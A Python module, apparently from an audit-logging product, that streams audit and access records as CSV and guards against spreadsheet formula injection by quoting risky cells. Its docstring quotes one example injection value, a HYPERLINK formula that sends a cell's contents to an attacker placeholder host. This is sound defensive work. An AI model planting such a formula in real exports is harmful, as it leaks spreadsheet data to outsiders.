"""CSV files the product writes, with every cell safe to open in a spreadsheet.

A spreadsheet evaluates a cell that begins with =, +, - or @ as a formula, and one that begins
with a tab or a carriage return can be made to do the same after trimming. Reasons, comments
and business keys are typed by people (or arrive from other systems), so a value like
=HYPERLINK("http://evil.example/?x="&A1,"click") would turn the auditor's export into a live
link or worse. Such a cell gets a leading single quote, which spreadsheets show as text and
which keeps the value otherwise intact. So does a cell that begins with a quote of its own,
so that the quote can be taken back without doubt (cell_value): an auditor re-hashing a row
reads each cell so, and a record whose reason is "-1 duplicate" hashes as it was made.
Every CSV writer goes through csv_lines.
"""

import csv
import itertools
import json
from collections.abc import Iterable, Iterator

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# A cell's own leading quote is quoted too: the prefix is then always one to take back.
QUOTED_PREFIXES = (*FORMULA_PREFIXES, "'")

# After the hash, the rest of what it covers: an auditor re-hashes each row of an export
# (audit.chain.record_hash) without the database, and sees the evidence `data` holds (the
# effect's key, remote reference, result digest). A sealed value a record keeps (a late
# result's) is exported as written, not as the mask the pages show (sealed_masked): masked,
# its row would no longer hash to its hash, and read as a record changed.
AUDIT_HEADER = ["id", "run", "seq", "time", "actor", "action", "step", "reason", "before",
                "after", "hash", "actor_kind", "actor_user_id", "data", "prev_hash"]


def neutralise_cell(value) -> str:
    """The cell's text, prefixed with ' when a spreadsheet would read it as a formula or
    it begins with a quote itself."""
    text = "" if value is None else str(value)
    if text.startswith(QUOTED_PREFIXES):
        return "'" + text
    return text


def cell_value(cell: str) -> str:
    """The text a cell of these files was written from: its one leading quote, if any, taken
    back (neutralise_cell's inverse)."""
    return cell[1:] if cell.startswith("'") else cell


class _Echo:
    """A file-like object whose write returns the line, so csv.writer can stream."""

    def write(self, value):
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
    """The header and the rows as CSV lines, every cell neutralised (for streaming)."""
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise_cell(c) for c in header])
    for row in rows:
        yield writer.writerow([neutralise_cell(c) for c in row])


def begun(rows: Iterable) -> Iterator:
    """`rows` with the first one already read: an export's query runs when the export is
    asked for, before a line is streamed, so a query that fails answers an error instead of
    200 and a file of its header alone, which reads as an export of no record. (The filter
    it is given is checked before, by the form: console.forms.TimeField.)"""
    rows = iter(rows)
    return itertools.chain(list(itertools.islice(rows, 1)), rows)


def as_json(value) -> str:
    """A JSON column as JSON (not Python's repr), so that it parses back to what was hashed."""
    return json.dumps(value, ensure_ascii=False, default=str)


def audit_csv_lines(records) -> Iterator[str]:
    """The audit records (a queryset) as CSV lines, read in chunks so memory stays flat."""
    rows = ([r.pk, r.run_id, r.seq, r.created_at.isoformat(), r.actor_label, r.action,
             r.step_name, r.reason, as_json(r.before), as_json(r.after), r.hash, r.actor_kind,
             r.actor_user_id, as_json(r.data), r.prev_hash]
            for r in records.iterator(chunk_size=2000))
    return csv_lines(AUDIT_HEADER, begun(rows))


ACCESS_HEADER = ["seq", "time", "actor", "action", "subject", "reason", "before", "after",
                 "hash", "actor_kind", "actor_user_id", "prev_hash"]


def access_csv_lines(records) -> Iterator[str]:
    """The access chain's records (a queryset) as CSV lines, read in chunks."""
    rows = ([r.seq, r.created_at.isoformat(), r.actor_label, r.action, r.subject, r.reason,
             as_json(r.before), as_json(r.after), r.hash, r.actor_kind, r.actor_user_id,
             r.prev_hash] for r in records.iterator(chunk_size=2000))
    return csv_lines(ACCESS_HEADER, begun(rows))
